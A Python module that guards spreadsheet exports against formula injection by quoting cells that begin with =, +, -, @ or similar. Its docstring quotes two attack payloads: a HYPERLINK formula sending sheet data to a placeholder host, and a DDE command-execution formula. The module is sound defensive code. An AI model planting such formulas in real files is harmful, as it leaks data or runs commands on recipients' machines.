"""Text from units, feeds and forms must never run as a formula in a spreadsheet.

Excel and LibreOffice treat a cell starting with = + - @ (or their full-width
forms, which an IME types and Excel folds to ASCII) as a formula, and a leading
tab or carriage return hides such a start: `=HYPERLINK("http://evil/?"&A1)` in
a unit's note would leak the city's sheet, `=cmd|'/C calc'!A0` ran commands
(DDE). Every CSV and XLSX writer passes its cells through `defuse_formula`;
importers reading our own files back call `restore_defused`.
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
# A leading apostrophe is the spreadsheet's own "this is text" mark: Excel hides it
# in a CSV cell, and in an .xlsx string cell it stays visible but inert.
QUOTE = "'"


def is_formula_like(text: str) -> bool:
    # A lone "-" or "+" (an empty-value placeholder) is not a formula.
    return len(text) > 1 and text[:1] in FORMULA_STARTS


def defuse_formula(value: Any) -> Any:
    """`value` safe for a spreadsheet cell: text that could start a formula gets "'" first.

    Numbers, dates and None pass unchanged (a negative number is a number, not text).
    """
    if isinstance(value, str) and is_formula_like(value):
        return QUOTE + value
    return value


def defuse_row(values: Any) -> list[Any]:
    return [defuse_formula(v) for v in values]


def restore_defused(text: str) -> str:
    """The text `defuse_formula` was given, for importers reading an exported file back."""
    if text[:1] == QUOTE and is_formula_like(text[1:]):
        return text[1:]
    return text


def defuse_workbook(workbook: Any) -> None:
    """Run `defuse_formula` over every cell of an openpyxl workbook, just before saving.

    For writers that build a normal (not write-only) workbook with `append`: our
    exports never write a formula on purpose, so every formula-like text is data,
    whichever code path put it there.
    """
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and is_formula_like(cell.value):
                    cell.value = defuse_formula(cell.value)
